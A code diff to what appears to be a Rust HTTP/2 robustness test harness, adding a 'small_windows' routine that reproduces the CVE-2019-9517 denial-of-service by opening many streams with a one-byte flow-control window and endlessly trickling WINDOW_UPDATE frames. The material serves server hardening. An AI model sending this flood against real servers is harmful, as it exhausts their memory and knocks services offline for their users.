@@ -61,6 +61,19 @@ pub async fn large_heads(stranger: Stranger) {
     .await;
 }
 
+/// Large responses on many streams, of which the client takes a byte at a time (CVE-2019-9517).
+pub async fn small_windows(stranger: Stranger) {
+    // SETTINGS_INITIAL_WINDOW_SIZE, RFC 9113, section 6.5.2.
+    let window = [&4u16.to_be_bytes()[..], &1u32.to_be_bytes()].concat();
+    let get_large = [&[0x82, 0x86, 0x01, 1, b'a', 0x04, 6], &b"/large"[..]].concat();
+    flood(stranger, ENDLESS, |number| match number {
+        0 => frame(SETTINGS, 0, 0, &window),
+        1..=100 => frame(HEADERS, END_HEADERS | END_STREAM, 2 * number - 1, &get_large),
+        _ => frame(WINDOW_UPDATE, 0, 2 * (number % 100) + 1, &1u32.to_be_bytes()),
+    })
+    .await;
+}
+
 /// A part of the preface, and then nothing.
 pub async fn half_preface(mut stranger: Stranger) {
     let _ = stranger.stream.write_all(&PREFACE[..20]).await;
@@ -121,6 +134,7 @@ const PRIORITY: u8 = 2;
 const RST_STREAM: u8 = 3;
 const SETTINGS: u8 = 4;
 const PING: u8 = 6;
+const WINDOW_UPDATE: u8 = 8;
 const CONTINUATION: u8 = 9;
 const END_STREAM: u8 = 1;
 const END_HEADERS: u8 = 4;
